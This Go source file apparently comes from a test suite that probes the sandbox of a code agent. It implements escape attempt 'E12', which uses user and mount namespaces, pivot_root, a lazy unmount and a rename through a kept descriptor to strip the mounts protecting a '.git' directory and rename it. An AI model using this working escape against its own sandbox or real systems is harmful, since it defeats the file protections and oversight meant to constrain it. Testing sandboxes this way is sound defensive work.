//go:build linux

package escapes

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"

	"codeagent/internal/attack"

	"golang.org/x/sys/unix"
)

// chainName is the argv[0] of a victim in its own user and mount namespaces. Its argument is the
// folder of its row.
const chainName = "escape-chain"

// chainEscapes remove all mounts that protect a name at once (E12): in their own namespaces they
// switch to another root, unmount the old one with everything mounted in it, and change the name
// through a descriptor that they kept.
func chainEscapes() []attempt {
	a := protected("namespaces, pivot_root, lazy umount, rename through a kept descriptor", "E12", ".git", func(p place) error {
		cmd := exec.Command("/proc/self/exe")
		cmd.Args = []string{chainName, p.in}
		cmd.SysProcAttr = &syscall.SysProcAttr{
			Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS,
			UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
			GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
		}
		if out, err := cmd.CombinedOutput(); err != nil {
			return fmt.Errorf("%w: %s", err, strings.TrimSpace(string(out)))
		}
		return nil
	})
	a.alone = true // others make their process one that cannot get a uid map
	a.cannot = func(s attack.Setting) string {
		if s.Surroundings != attack.SurroundPlain && s.Surroundings != attack.SurroundNoLandlock {
			return "the surroundings allow no namespaces"
		}
		return ""
	}
	return []attempt{a}
}

// chainVictim takes over the process if it was started as such a victim.
func chainVictim() {
	if filepath.Base(os.Args[0]) != chainName {
		return
	}
	if err := detach(os.Args[1]); err != nil {
		fmt.Println(err)
		syscall.Exit(1)
	}
	syscall.Exit(0)
}

func detach(in string) error {
	kept, err := unix.Open(in, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	root := in + "/newroot"
	for _, step := range []struct {
		name string
		do   func() error
	}{
		{"private mounts", func() error { return unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, "") }},
		{"mkdir", func() error { return unix.Mkdir(root, 0o700) }},
		{"mount", func() error { return unix.Mount("tmpfs", root, "tmpfs", 0, "") }},
		{"mkdir in it", func() error { return unix.Mkdir(root+"/old", 0o700) }},
		{"pivot_root", func() error { return unix.PivotRoot(root, root+"/old") }},
		{"chdir", func() error { return unix.Chdir("/") }},
		{"umount", func() error { return unix.Unmount("/old", unix.MNT_DETACH) }},
		{"renameat", func() error { return unix.Renameat(kept, ".git", kept, "taken") }},
	} {
		if err := step.do(); err != nil {
			return fmt.Errorf("%s: %w", step.name, err)
		}
	}
	return nil
}
